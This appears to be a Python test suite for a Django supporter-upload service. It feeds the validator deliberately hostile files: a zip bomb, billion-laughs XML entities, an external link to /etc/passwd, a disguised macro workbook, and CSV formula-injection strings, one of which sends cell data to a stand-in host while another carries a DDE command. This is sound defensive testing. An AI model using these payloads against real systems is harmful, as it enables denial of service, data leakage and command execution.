"""Hostile supporter files, each through the real upload service and validation task: refused with an
Indonesian message, or read normally, within bounded time and memory; and the next honest upload still
goes through (the worker is not left broken)."""

import io
import resource
import time
import tracemalloc
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from support_uploads.models import Supporter, Upload, UploadStatus
from support_uploads.services import upload_create
from tests.support_uploads.conftest import csv_bytes, rows_for, template_xlsx

pytestmark = pytest.mark.django_db

MAX_SECONDS = 30
MAX_MEMORY = 500 << 20


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def _rss() -> int:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024  # Linux reports KiB


def _run(pair, lo, content: bytes, name: str, capture) -> Upload:
    """Upload ``content`` and run its validation; assert time and memory stayed bounded."""
    tracemalloc.start()
    rss_before, started = _rss(), time.perf_counter()
    with capture(execute=True):
        upload = upload_create(actor=lo, pair=pair, file=SimpleUploadedFile(name, content), max_bytes=len(content) + 1)
    elapsed = time.perf_counter() - started
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    upload.refresh_from_db()
    assert elapsed < MAX_SECONDS, f"{name}: {elapsed:.1f} s"
    assert peak < MAX_MEMORY, f"{name}: Python peak {peak >> 20} MB"
    assert _rss() - rss_before < MAX_MEMORY, f"{name}: RSS grew {(_rss() - rss_before) >> 20} MB"
    assert upload.is_finished, upload.status
    return upload


def _refused(upload: Upload, code: str) -> None:
    assert upload.status == UploadStatus.FAILED
    assert upload.error_code == code, (upload.error_code, upload.error_message)
    # an Indonesian sentence telling the uploader what to do
    assert upload.error_message and any(w in upload.error_message for w in ("Berkas", "berkas", "Lembar"))


def _rewrite(xlsx: bytes, *, replace: dict[str, bytes] = {}, add: dict[str, bytes] = {}) -> bytes:  # noqa: B006
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, replace.get(info.filename, src.read(info.filename)))
        for name, data in add.items():
            dst.writestr(name, data)
    return out.getvalue()


def _data_sheet_part(xlsx: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as zf:
        return sorted(n for n in zf.namelist() if n.startswith("xl/worksheets/sheet"))[0]


@pytest.fixture
def honest(pair, lo, villages, django_capture_on_commit_callbacks):
    """After each hostile file, an honest one is still validated to the end."""
    yield
    upload = _run(pair, lo, csv_bytes(rows_for(villages, 3)), "jujur.csv", django_capture_on_commit_callbacks)
    assert upload.status == UploadStatus.DONE, (upload.error_code, upload.error_message)


def test_zip_bomb(pair, lo, villages, honest, django_capture_on_commit_callbacks):
    """A sheet part that inflates to 1 GiB of XML from about 1 MB compressed."""
    xlsx = template_xlsx(pair, rows_for(villages, 2))
    part = _data_sheet_part(xlsx)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != part:
                dst.writestr(info.filename, src.read(info.filename))
        with dst.open(part, "w", force_zip64=True) as fh:
            original = src.read(part)
            cut = original.index(b"<sheetData>") + len(b"<sheetData>")
            fh.write(original[:cut])
            padding = b" " * (8 << 20)
            for _ in range(128):  # 1 GiB of whitespace inside <sheetData>
                fh.write(padding)
            fh.write(original[cut:])
    bomb = out.getvalue()
    assert len(bomb) < 8 << 20
    _refused(_run(pair, lo, bomb, "bom.xlsx", django_capture_on_commit_callbacks), "ZIP_BOMB")


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode() for i in range(1, 10)
    )
    + b']><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
    b"<si><t>&lol9;</t></si></sst>"
)


@pytest.mark.parametrize("target", ["xl/sharedStrings.xml", "sheet", "xl/workbook.xml"])
def test_billion_laughs(target, pair, lo, villages, honest, django_capture_on_commit_callbacks):
    xlsx = template_xlsx(pair, rows_for(villages, 2))
    if target == "sheet":
        target = _data_sheet_part(xlsx)
        with zipfile.ZipFile(io.BytesIO(xlsx)) as zf:
            original = zf.read(target)
        body = original.split(b"?>", 1)[1] if original.startswith(b"<?xml") else original
        payload = BILLION_LAUGHS.split(b"<sst")[0] + body.replace(b"<sheetData>", b"<sheetData>&lol9;", 1)
    elif target == "xl/workbook.xml":
        with zipfile.ZipFile(io.BytesIO(xlsx)) as zf:
            original = zf.read(target)
        body = original.split(b"?>", 1)[1] if original.startswith(b"<?xml") else original
        payload = BILLION_LAUGHS.split(b"<sst")[0] + body
    else:
        payload = BILLION_LAUGHS
    with zipfile.ZipFile(io.BytesIO(xlsx)) as zf:
        exists = target in zf.namelist()
    hostile = _rewrite(xlsx, replace={target: payload}) if exists else _rewrite(xlsx, add={target: payload})
    _refused(_run(pair, lo, hostile, "tawa.xlsx", django_capture_on_commit_callbacks), "XML_DTD")


def test_external_reference(pair, lo, villages, honest, django_capture_on_commit_callbacks):
    xlsx = template_xlsx(pair, rows_for(villages, 2))
    link = (
        b'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main"><externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships"/></externalLink>'
    )
    rels = (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/externalLinkPath" Target="file:///etc/passwd" '
        b'TargetMode="External"/></Relationships>'
    )
    hostile = _rewrite(
        xlsx,
        add={"xl/externalLinks/externalLink1.xml": link, "xl/externalLinks/_rels/externalLink1.xml.rels": rels},
    )
    _refused(_run(pair, lo, hostile, "tautan.xlsx", django_capture_on_commit_callbacks), "EXTERNAL_LINK")


def test_macro_workbook_renamed_xlsx(pair, lo, villages, honest, django_capture_on_commit_callbacks):
    xlsx = template_xlsx(pair, rows_for(villages, 2))
    with zipfile.ZipFile(io.BytesIO(xlsx)) as zf:
        types = zf.read("[Content_Types].xml")
    types = types.replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    hostile = _rewrite(
        xlsx, replace={"[Content_Types].xml": types}, add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 512}
    )
    _refused(_run(pair, lo, hostile, "makro.xlsx", django_capture_on_commit_callbacks), "MACRO")


def test_dimension_claims_a_million_rows(pair, lo, villages, honest, django_capture_on_commit_callbacks):
    xlsx = template_xlsx(pair, rows_for(villages, 3))
    part = _data_sheet_part(xlsx)
    with zipfile.ZipFile(io.BytesIO(xlsx)) as zf:
        sheet = zf.read(part)
    import re

    stretched = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:N1048576"/>', sheet)
    if stretched == sheet:
        stretched = sheet.replace(b"<sheetData>", b'<dimension ref="A1:N1048576"/><sheetData>', 1)
    upload = _run(pair, lo, _rewrite(xlsx, replace={part: stretched}), "luas.xlsx", django_capture_on_commit_callbacks)
    assert upload.status == UploadStatus.DONE, (upload.error_code, upload.error_message)
    assert upload.rows_read == 3


def test_ten_thousand_columns(pair, lo, villages, honest, django_capture_on_commit_callbacks):
    rows = rows_for(villages, 3)
    wide = csv_bytes(rows).decode().splitlines()
    wide = [line + "," + ",".join(f"x{i}" for i in range(10_000)) for line in wide]
    upload = _run(pair, lo, "\n".join(wide).encode(), "lebar.csv", django_capture_on_commit_callbacks)
    assert upload.is_finished
    if upload.status == UploadStatus.FAILED:
        assert upload.error_message
    else:
        assert upload.rows_read == 3


def test_megabyte_cells(pair, lo, villages, honest, django_capture_on_commit_callbacks):
    rows = rows_for(villages, 3)
    rows[0]["name"] = "A" * (1 << 20)
    rows[1]["address"] = "Jl. " + "panjang " * (1 << 17)
    upload = _run(pair, lo, csv_bytes(rows), "sel-besar.csv", django_capture_on_commit_callbacks)
    assert upload.status == UploadStatus.DONE, (upload.error_code, upload.error_message)
    assert upload.rows_read == 3
    # both over-long rows are rejected with FIELD_TOO_LONG and kept only cut short (limits in template_spec)
    assert (upload.rows_accepted, upload.rows_rejected) == (1, 2)
    assert upload.reason_counts == {"FIELD_TOO_LONG": 2}
    longest = max(
        len(value)
        for row in Supporter.objects.filter(upload_id=upload.pk).values_list("name", "address")
        for value in row
    )
    assert longest < 300


def test_invalid_utf8_csv(pair, lo, villages, honest, django_capture_on_commit_callbacks):
    content = csv_bytes(rows_for(villages, 2)).replace(b"a", b"\xff\xfe", 1)
    _refused(_run(pair, lo, content, "latin.csv", django_capture_on_commit_callbacks), "NOT_XLSX_CSV")


def test_nul_bytes(pair, lo, villages, honest, django_capture_on_commit_callbacks):
    content = csv_bytes(rows_for(villages, 2)).replace(b",", b"\x00,", 3)
    _refused(_run(pair, lo, content, "nul.csv", django_capture_on_commit_callbacks), "NOT_XLSX_CSV")


def test_pdf_posing_as_xlsx(pair, lo, honest, django_capture_on_commit_callbacks):
    content = b"%PDF-1.7\n" + b"1 0 obj<<>>endobj\n" * 200 + b"%%EOF\n"
    upload = _run(pair, lo, content, "dukungan.xlsx", django_capture_on_commit_callbacks)
    assert upload.status == UploadStatus.FAILED and upload.error_message


def test_formula_cells_are_kept_as_text(pair, lo, villages, honest, django_capture_on_commit_callbacks):
    rows = rows_for(villages, 3)
    rows[0]["name"] = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
    rows[1]["address"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    upload = _run(pair, lo, csv_bytes(rows), "rumus.csv", django_capture_on_commit_callbacks)
    assert upload.status == UploadStatus.DONE
    assert upload.rows_read == 3
